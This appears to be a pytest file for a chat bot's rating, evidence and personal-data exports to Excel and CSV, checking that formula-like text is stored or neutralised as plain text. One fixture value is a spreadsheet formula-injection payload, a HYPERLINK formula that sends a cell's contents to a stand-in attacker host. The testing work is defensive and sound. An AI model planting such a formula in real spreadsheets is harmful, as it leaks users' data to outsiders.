"""The files people open in Excel, built and read back as Excel would.

Marion (French, Paris) manages Alice (English, en-GB, Kolkata). Alice rated prospection
in a check-in with a piece of evidence beside it, logged another on its own (as
``/palier log`` or the message shortcut store it: no check-in) whose text looks like a
formula, and one more in the check-in for a competency she did not rate; Marion rated
her too. The export must hold every piece of evidence once, in the reader's words, and
no cell a spreadsheet would run; one's own data comes with a summary a person reads.
"""

from __future__ import annotations

import json
from datetime import datetime, timedelta

import pytest
from sqlalchemy import select

from bot.app.actor import ActorRef
from bot.app.operator import Operator
from bot.app.outcome import DeliverFile
from bot.bootstrap import Core, Flows
from bot.domain.csv_safe import BOM, excel_csv
from bot.domain.people import Profile, ensure_tenant, upsert_person
from bot.domain.sheets import Table
from bot.domain.xlsx_safe import sheet_name, workbook
from bot.i18n import Translator
from bot.views.my_data import summary_text
from referentiels.loader import ReferentielCatalog
from storage.db import session_scope
from storage.models import (
    Evidence,
    OneOnOneNote,
    Person,
    Platform,
    Rater,
    Rating,
    Submission,
    SubmissionKind,
)
from tests.app.support import ALICE, NOW, TEAM, Directory
from tests.spreadsheets import csv_rows, export_records, xlsx_cells, xlsx_rows

MARION = ActorRef(Platform.SLACK, TEAM, "U0MARION")
FORMULA = '=HYPERLINK("https://evil.example/?"&B2, "deal")'
ON_ITS_OWN = "Démo chez Acme; relance « signée »"
BESIDE = "Appel de découverte"
UNRATED = "@SUM(A1) négociation"


def _evidence(person: Person, text: str, **fields: object) -> Evidence:
    values: dict[str, object] = {
        "tenant_id": person.tenant_id,
        "person_id": person.id,
        "referentiel_id": "account-executive",
        "competency_id": "prospection",
        "text": text,
        "created_at": NOW,
    }
    return Evidence(**(values | fields))


@pytest.fixture
def logged(core: Core) -> None:
    with session_scope(core.sessions) as session:
        tenant = ensure_tenant(session, Platform.SLACK, TEAM)
        marion, _ = upsert_person(
            session, tenant, Profile("U0MARION", "Marion", timezone="Europe/Paris", locale="fr-FR")
        )
        alice = session.scalars(select(Person).where(Person.platform_user_id == "U0ALICE")).one()
        session.flush()
        alice.manager_id = marion.id
        alice.checkin_weekday, alice.checkin_time = 3, datetime(2026, 1, 1, 16, 0).time()
        checkin = Submission(
            tenant_id=alice.tenant_id,
            person_id=alice.id,
            kind=SubmissionKind.CHECKIN,
            idempotency_key="checkin-1",
        )
        session.add(checkin)
        session.flush()
        rating: dict[str, object] = {"tenant_id": alice.tenant_id, "person_id": alice.id}
        rating |= {"referentiel_id": "account-executive", "competency_id": "prospection"}
        session.add_all(
            [
                Rating(
                    **rating,
                    level_id="junior",
                    rater=Rater.SELF,
                    submission_id=checkin.id,
                    comment="Bonne semaine\n=1+1",
                    cycle_key="2026-W48",
                    rated_at=NOW - timedelta(days=2),
                ),
                Rating(
                    **rating,
                    level_id="intermediaire",
                    rater=Rater.MANAGER,
                    rater_person_id=marion.id,
                    rated_at=NOW,
                ),
                _evidence(
                    alice, BESIDE, submission_id=checkin.id, created_at=NOW - timedelta(days=2)
                ),
                _evidence(
                    alice,
                    UNRATED,
                    competency_id="closing",
                    submission_id=checkin.id,
                    created_at=NOW - timedelta(days=2),
                ),
                _evidence(alice, FORMULA, link="https://crm.example/deals/42"),
                _evidence(alice, ON_ITS_OWN, created_at=NOW - timedelta(days=1)),
                OneOnOneNote(
                    tenant_id=alice.tenant_id,
                    person_id=alice.id,
                    author_id=marion.id,
                    text="Prête pour les grands comptes",
                    created_at=NOW,
                ),
            ]
        )


def _marions_workbook(flows: Flows) -> DeliverFile:
    outcome = flows.export.team_ratings(MARION, Directory(Profile("U0MARION")))
    [file] = outcome.effects
    assert isinstance(file, DeliverFile)
    return file


def test_the_chat_export_is_a_workbook_in_the_managers_words(flows: Flows, logged: None) -> None:
    file = _marions_workbook(flows)
    assert file.filename == "palier-export-2026-11-26.xlsx"
    assert isinstance(file.content, bytes)
    rows = xlsx_rows(file.content)
    records = export_records(rows, "fr", "Europe/Paris")
    assert rows[0][:4] == ["Type", "Espace de travail", "Personne", "E-mail"]
    assert "Date (heure : Europe/Paris)" in rows[0]
    alices = [r for r in records if r["person"] == "Alice"]
    assert [(r["kind"], r["level_name"], r["rater"]) for r in alices] == [
        ("Évaluation", "Junior", "la personne elle-même"),
        ("Preuve", None, None),  # in the check-in, for a competency it did not rate
        ("Preuve", None, None),  # logged on its own
        ("Évaluation", "Intermédiaire", "son manager"),
        ("Preuve", None, None),
    ]
    assert alices[0]["evidence"] == BESIDE
    assert [r["evidence"] for r in alices if r["kind"] == "Preuve"] == [
        UNRATED,
        ON_ITS_OWN,
        FORMULA,
    ]
    assert alices[4]["evidence_links"] == "https://crm.example/deals/42"
    # Times are dates, in Marion's zone (Paris: UTC+1), not text.
    assert alices[3]["date"] == datetime(2026, 11, 26, 16, 0)
    assert alices[0]["date"] == datetime(2026, 11, 24, 16, 0)


def test_a_workbook_holds_text_as_text_never_a_formula(flows: Flows, logged: None) -> None:
    content = _marions_workbook(flows).content
    assert isinstance(content, bytes)
    cells = xlsx_cells(content)
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    formula_like = [c for c in cells if isinstance(c.value, str) and c.value[:1] in "=@+-"]
    # As typed (no quote prepended: a workbook's text cell is text), stored as strings.
    assert {c.value for c in formula_like} >= {FORMULA, UNRATED}
    assert {c.data_type for c in formula_like} == {"s"}
    assert b"<f>" not in content  # no formula element anywhere in the sheets


def test_the_operators_csv_opens_in_french_excel(flows: Flows, logged: None) -> None:
    export = flows.export.all_ratings(Operator("fr"))
    assert export.view is not None
    content = export.view.content
    assert isinstance(content, str) and content.startswith(BOM)
    assert export.view.filename == "palier-export-2026-11-26.csv"
    header_line = content.removeprefix(BOM).split("\r\n", 1)[0]
    assert header_line.startswith("Type;Espace de travail;Personne;E-mail;Référentiel;")
    rows = csv_rows(content, ";")
    records = export_records(rows, "fr", "UTC")
    texts = [r["evidence"] for r in records if r["kind"] == "Preuve"]
    assert texts == ["'" + UNRATED, ON_ITS_OWN, "'" + FORMULA]  # neutralised, whole
    assert [r["comment"] for r in records if r["comment"]] == ["Bonne semaine\n=1+1"]
    assert {r["date"] for r in records} >= {"2026-11-26 15:00", "2026-11-24 15:00"}
    # A cell with the separator in it is quoted, and reads back whole.
    assert f'"{ON_ITS_OWN}"' in content


def test_the_operators_csv_in_english_and_as_a_workbook(flows: Flows, logged: None) -> None:
    export = flows.export.all_ratings(Operator("en"))
    assert export.view is not None and isinstance(export.view.content, str)
    assert export.view.content.startswith(BOM + "Type,Workspace,Person,Email,Référentiel,")
    records = export_records(csv_rows(export.view.content, ","), "en", "UTC")
    assert [r["kind"] for r in records].count("Evidence") == 3
    assert {r["rater"] for r in records} == {"the person", "their manager", ""}
    from bot.app.exports import ExportFormat

    book = flows.export.all_ratings(Operator("en"), fmt=ExportFormat.XLSX)
    assert book.view is not None and book.view.filename == "palier-export-2026-11-26.xlsx"
    assert xlsx_rows(book.view.content)[0][:2] == ["Type", "Workspace"]


def test_ones_own_data_reads_in_ones_language(flows: Flows, logged: None) -> None:
    summary, complete = flows.privacy.send_my_data(ALICE).effects
    assert isinstance(summary, DeliverFile) and isinstance(complete, DeliverFile)
    assert isinstance(summary.content, str) and isinstance(complete.content, str)
    text = summary.content
    assert text.startswith(BOM + "Your data in Palier\r\n")
    # Palier keeps Slack's region (en-GB): CLDR's British English, day first, 24-hour clock.
    assert "Summary prepared on 26 Nov 2026 for Alice." in text  # in Kolkata
    assert "Check-in: every Thursday at 16:00" in text
    assert "Language: English" in text and "Time zone: Asia/Kolkata" in text
    assert "Role: team member" in text and "Manager: Marion" in text
    assert "• 24 Nov 2026 — Prospection: Junior (by you)" in text
    assert "“Bonne semaine\r\n" not in text and "“Bonne semaine\n" in text.replace("\r\n", "\n")
    assert (
        "Evidence (4)" in text and FORMULA in text and "Link: https://crm.example/deals/42" in text
    )
    assert "1:1 note about you (1)" in text and "Marion: Prête pour les grands comptes" in text
    assert "Ratings (2)" in text and "{" not in text
    # The same data as the JSON beside it.
    data = json.loads(complete.content)
    assert len(data["evidence"]) == 4 and len(data["ratings"]) == 2


def test_ones_own_data_in_french_is_named_in_french(flows: Flows, logged: None) -> None:
    summary, complete = flows.privacy.send_my_data(MARION).effects
    assert isinstance(summary, DeliverFile) and isinstance(complete, DeliverFile)
    assert (summary.filename, complete.filename) == (
        "palier-mes-donnees-2026-11-26.txt",
        "palier-mes-donnees-2026-11-26.json",
    )
    text = summary.content
    assert isinstance(text, str) and text.startswith(BOM + "Vos données dans Palier\r\n")
    assert "Résumé préparé le 26 nov. 2026 pour Marion." in text
    assert "Langue : français" in text and "Fuseau horaire : Europe/Paris" in text
    assert "Évaluation (0)" in text and "Rien pour l'instant." in text
    assert "Alice" not in text  # Marion's data only: her notes about Alice are Alice's


def test_a_summary_follows_the_persons_region_when_palier_knows_it(
    flows: Flows, logged: None
) -> None:
    data = flows.privacy.data_of(Operator("fr"), ALICE)
    assert data.view is not None
    profile = data.view.data["profile"] | {"locale": "en-GB"}
    text = summary_text(
        data.view.data | {"profile": profile}, Translator("en"), ReferentielCatalog.load(None), NOW
    )
    assert "Summary prepared on 26 Nov 2026 for Alice." in text
    assert "Check-in: every Thursday at 16:00" in text
    assert "Language: English (United Kingdom)" in text
    assert "• 24 Nov 2026 — Prospection: Junior (by you)" in text


def test_the_writers_themselves() -> None:
    table = Table(("a", "b"), ("Nom", "Montant"), [["=1+1", 2.5], ["x;y", -3]])
    assert excel_csv(table, "fr") == BOM + 'Nom;Montant\r\n\'=1+1;2,5\r\n"x;y";-3\r\n'
    assert excel_csv(table, "en") == BOM + "Nom,Montant\r\n'=1+1,2.5\r\nx;y,-3\r\n"
    built = workbook([("Feuille: 1/2 [x]", table)], "fr", NOW)
    assert built == workbook([("Feuille: 1/2 [x]", table)], "fr", NOW)  # built again: the same
    rows = xlsx_rows(built)
    assert rows == [["Nom", "Montant"], ["=1+1", 2.5], ["x;y", -3]]
    assert sheet_name("Évaluations: a/b*c?" + "x" * 40) == "Évaluations  a b c " + "x" * 12
    assert Translator("fr")("files_excel.export.column.date", zone="UTC") == "Date (heure : UTC)"
